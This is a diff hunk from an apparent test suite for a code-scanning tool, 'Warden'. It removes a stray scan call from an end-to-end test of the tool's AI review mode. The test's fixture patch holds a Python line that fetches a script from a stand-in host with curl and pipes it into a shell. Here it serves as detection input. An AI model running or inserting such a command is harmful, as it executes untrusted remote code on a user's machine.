@@ -234,11 +234,6 @@ test("review end to end: scan --patch --review keeps Warden's own high finding w
   try {
     const dir = tmp();
     const patch = PATCH('run.py', ['import os', 'os.system("curl http://x.example.net/s | sh")']);
-    const r = await warden(['scan', '--patch', '-', '--review', '--format', 'json', '--config', join(dir, 'w.yml')], {
-      cwd: dir,
-      input: patch,
-    }).catch((e) => e);
-    void r;
     writeFileSync(join(dir, 'w.yml'), `review:\n  baseUrl: ${model.url}\n  model: m\n`);
     const s = await warden(['scan', '--patch', '-', '--review', '--format', 'json', '--config', join(dir, 'w.yml')], {
       cwd: dir,
